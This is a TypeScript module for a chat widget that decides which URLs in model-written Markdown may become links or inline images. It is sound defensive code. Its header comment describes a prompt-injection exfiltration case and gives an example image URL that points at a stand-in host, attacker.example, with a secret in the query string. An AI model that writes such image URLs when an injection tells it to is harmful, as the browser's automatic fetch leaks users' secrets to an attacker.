/**
 * @module widget/urls
 * Which URLs model text may turn into links and images. Model output is untrusted: a prompt
 * injection can make the model write `![](https://attacker.example/?q=<secret>)`, and an image
 * the browser fetches by itself leaks whatever is in its URL. So images load only from the files
 * origin (unsandbox's own downloads) or from `data:` raster images (code_interpreter outputs);
 * every other image becomes a plain link the visitor may or may not follow. Links are http(s)
 * only: no `javascript:`, no `sandbox:` (a container path no browser can open). Pure.
 */

/** Raster types rendered inline; `data:image/svg+xml` is excluded (an SVG is a document). */
const RASTER_DATA = /^data:image\/(png|jpeg|gif|webp|avif);base64,[A-Za-z0-9+/=\s]+$/i;

/** The absolute http(s) URL for `raw`, or null when it is anything else. */
export function safeLinkUrl(raw: string): string | null {
  let url: URL;
  try {
    url = new URL(raw.trim());
  } catch {
    return null;
  }
  if (url.protocol !== "https:" && url.protocol !== "http:") return null;
  if (url.username || url.password) return null;
  return url.href;
}

/** What to do with a Markdown image: load it, show it as a link, or show its text. */
export type ImageDecision = { kind: "image"; src: string } | { kind: "link"; href: string } | { kind: "text" };

/**
 * @param raw the image URL as the model wrote it
 * @param filesOrigin the origin of unsandbox's download URLs (e.g. `https://files.example.com`)
 */
export function decideImage(raw: string, filesOrigin: string): ImageDecision {
  const trimmed = raw.trim();
  if (/^data:/i.test(trimmed)) return RASTER_DATA.test(trimmed) ? { kind: "image", src: trimmed } : { kind: "text" };
  const href = safeLinkUrl(trimmed);
  if (!href) return { kind: "text" };
  if (new URL(href).origin === filesOrigin) return { kind: "image", src: href };
  return { kind: "link", href };
}

/** True when `href` is one of unsandbox's download URLs (`<files origin>/files/<token>/<name>`). */
export function isFileUrl(href: string, filesOrigin: string): boolean {
  try {
    const url = new URL(href);
    return url.origin === filesOrigin && url.pathname.startsWith("/files/");
  } catch {
    return false;
  }
}
